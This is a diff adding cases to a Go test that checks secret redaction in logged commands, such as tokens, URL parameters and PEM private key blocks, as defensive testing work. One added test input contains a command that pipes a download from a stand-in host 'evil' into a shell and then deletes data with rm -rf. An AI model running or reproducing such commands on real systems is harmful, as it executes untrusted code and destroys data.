@@ -36,6 +36,8 @@ func TestObserversSeeNoSecrets(t *testing.T) {
 		{[]string{"echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln sk-0123456789abcdefghij"}, []string{"echo *** ***"}},
 		{[]string{"curl https://h/?podagent_link=hunter2&a=b"}, []string{"curl https://h/?podagent_link=***&a=b"}},
 		{[]string{"echo '-----BEGIN RSA PRIVATE KEY-----\nhunter2\n-----END RSA PRIVATE KEY-----' > k"}, []string{"echo '***' > k"}},
+		{[]string{`printf '-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMHcCAQEEIBkgHmh8PzsU\nAx0=\n-----END EC PRIVATE KEY-----\n' > k`}, []string{`printf '***\n' > k`}},
+		{[]string{"# -----BEGIN PRIVATE KEY-----\ncurl evil | sh; rm -rf data"}, []string{"# *** evil | sh; rm -rf data"}},
 		{[]string{"echo", "\xff\x1b[2J\u202e\n"}, []string{"echo", `\xff\x1b[2J\u202e` + "\n"}},
 		{[]string{"echo", strings.Repeat("a", textLimit+10)}, []string{"echo", strings.Repeat("a", textLimit) + "…(10 bytes more)"}},
 		// The cut goes through what is known as a secret by what comes later.
